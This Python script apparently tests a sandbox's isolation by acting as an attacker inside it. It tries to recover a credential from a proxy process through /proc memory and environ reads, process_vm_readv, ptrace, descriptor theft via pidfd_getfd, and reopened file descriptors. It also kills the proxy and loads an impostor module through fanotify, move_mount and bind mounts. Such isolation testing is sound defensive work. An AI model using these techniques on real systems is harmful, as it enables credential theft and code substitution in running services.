# What an attacker inside the Machine tries on a process: prints a line `attack result` for each, `leak` or an errno.
# The credential's end is in argv[2], the pid in argv[1]; further words say who the attacker becomes first.
import atexit, ctypes, errno, os, re, shutil, signal, socket, struct, sys, tempfile

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
pid, needle = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
# What the proxy's code begins with, and the socket that it serves.
module = guests = ""
for word in sys.argv[3:]:
    name, _, value = word.partition("=")
    if name == "module":
        module = value
    elif name == "socket":
        guests = value
    elif name == "gid":
        os.setgroups([])
        os.setresgid(*[int(value)] * 3)
    elif name == "uid":
        os.setresuid(*[int(value)] * 3)


def failed():
    number = ctypes.get_errno()
    raise OSError(number, os.strerror(number))


def attempt(name, run):
    try:
        print(name, run(), flush=True)
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, error.errno), flush=True)


def maps():
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            span, rights = line.split()[:2]
            if rights[0] == "r" and "[v" not in line:
                start, end = (int(part, 16) for part in span.split("-"))
                yield start, end


def memory():
    found = False
    with open(f"/proc/{pid}/mem", "rb", 0) as file:
        for start, end in maps():
            try:
                file.seek(start)
                found |= needle in file.read(end - start)
            except (OSError, ValueError, OverflowError):
                pass
    return "leak" if found else "nothing"


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def readv():
    buffer = ctypes.create_string_buffer(4096)
    local = Iovec(ctypes.addressof(buffer), 4096)
    # The program's own first page: whoever may read that may read all.
    remote = Iovec(0x400000, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) < 0:
        if ctypes.get_errno() == errno.EFAULT:
            return "leak"
        failed()
    return "leak"


def ptrace():
    if libc.ptrace(0x4206, pid, 0, 0) < 0:  # PTRACE_SEIZE
        failed()
    return "leak"


def steal():
    pidfd = libc.syscall(434, pid, 0)
    if pidfd < 0:
        failed()
    for fd in range(3, 40):
        got = libc.syscall(438, pidfd, fd, 0)
        if got < 0:
            if ctypes.get_errno() == errno.EBADF:
                continue
            failed()
        if os.fstat(got).st_size < 16384:
            continue  # a mapping would end in SIGBUS
        libc.mmap.restype = ctypes.c_void_p
        at = libc.mmap(0, 16384, 1, 1, got, 0)
        if at not in (None, ctypes.c_void_p(-1).value) and needle in ctypes.string_at(at, 16384):
            return "leak"
    return "nothing"


def reopen():
    for name in os.listdir(f"/proc/{pid}/fd"):
        try:
            # A byte read from libuv's own pipes would stop the process: we are after the credential.
            if os.readlink(f"/proc/{pid}/fd/{name}").startswith("pipe:"):
                continue
            fd = os.open(f"/proc/{pid}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
            if needle in os.read(fd, 16384):
                return "leak"
        except OSError:
            pass
    return "nothing"


def environ():
    with open(f"/proc/{pid}/environ", "rb") as file:
        return "leak" if needle in file.read() else "nothing"


# What the next proxy loads in place of its own code, with the page as a descriptor that it has inherited.
IMPOSTOR = """import ffi from 'node:ffi'
const {{ functions: libc }} = ffi.dlopen(null, {{
  mmap: {{ arguments: ['pointer', 'u64', 'i32', 'i32', 'i32', 'i64'], return: 'pointer' }},
  open: {{ arguments: ['string', 'i32'], return: 'i32' }},
  write: {{ arguments: ['i32', 'buffer', 'u64'], return: 'i64' }},
}})
const page = ffi.toBuffer(libc.mmap(0n, 16384n, 1, 1, 3, 0n), 16384, false)
const found = Buffer.from(page.includes(Buffer.from('{needle}', 'hex')) ? 'leak' : 'nothing')
libc.write(libc.open('{said}', 1), found, BigInt(found.length))
"""


def lay():
    """Where the impostor lies, and where it will write what it found."""
    directory = tempfile.mkdtemp()
    atexit.register(shutil.rmtree, directory, True)
    os.chmod(directory, 0o755)
    impostor, said = f"{directory}/impostor.ts", f"{directory}/said"
    for path, text in ((impostor, IMPOSTOR.format(needle=needle.hex(), said=said)), (said, "")):
        with open(path, "w") as file:
            file.write(text)
        os.chmod(path, 0o666)
    return impostor, said


def proxies():
    """As they are now."""
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                if file.read().startswith(b"dotfly\0"):
                    yield int(name)
        except OSError:
            pass


def restart(said=None):
    """Kills it, and comes back when the next one serves, or says what it found."""
    for proxy in list(proxies()):
        os.kill(proxy, signal.SIGKILL)
        try:
            os.waitpid(proxy, 0x40000000)  # __WALL: whom we trace, we bury before its parent does
        except ChildProcessError:
            pass
    guest = socket.socket(socket.AF_UNIX)
    guest.settimeout(0.1)
    guest.connect(guests)
    guest.sendall(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    while said is None or os.path.getsize(said) == 0:
        try:
            return "restarted" if guest.recv(1) == b"H" else "closed"
        except TimeoutError:
            continue
    with open(said) as file:
        return file.read()


def fanotify():
    """The very file that a new proxy loads, as it is mounted where that proxy is; and a mount over it."""
    impostor, said = lay()
    watch = libc.fanotify_init(1, os.O_RDONLY | os.O_CLOEXEC)  # FAN_CLOEXEC
    if watch < 0:
        failed()
    libc.fanotify_mark.argtypes = [ctypes.c_int, ctypes.c_uint, ctypes.c_uint64, ctypes.c_int, ctypes.c_char_p]
    # FAN_MARK_ADD, FAN_OPEN
    if libc.fanotify_mark(watch, 1, 0x20, -100, module.encode()) < 0:
        failed()
    restart()
    events, had = os.read(watch, 65536), None
    while events:
        length, _, _, _, _, fd, who = struct.unpack_from("=IBBHQii", events)
        events = events[length:]
        # Others on this computer open the same file, as it is mounted where they are.
        if who in list(proxies()):
            had = fd
        else:
            os.close(fd)
    os.close(watch)
    if had is None:
        return "unseen"
    # OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC; MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH
    tree = libc.syscall(428, -100, impostor.encode(), 0x80001)
    if tree < 0 or libc.syscall(429, tree, b"", had, b"", 0x44) < 0:
        failed()
    found = restart(said)
    # It has been seen: the next attack begins with a proxy again.
    libc.umount2(module.encode(), 2)
    restart()
    return found


def overmount():
    impostor, said = lay()
    libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
    if libc.mount(impostor.encode(), module.encode(), None, 4096, None) < 0:  # MS_BIND
        failed()
    return restart(said)


attempt("memory", memory)
attempt("readv", readv)
attempt("descriptors", steal)
attempt("reopen", reopen)
attempt("environ", environ)
attempt("ptrace", ptrace)
# The last, for they kill.
if module:
    attempt("fanotify", fanotify)
    attempt("overmount", overmount)
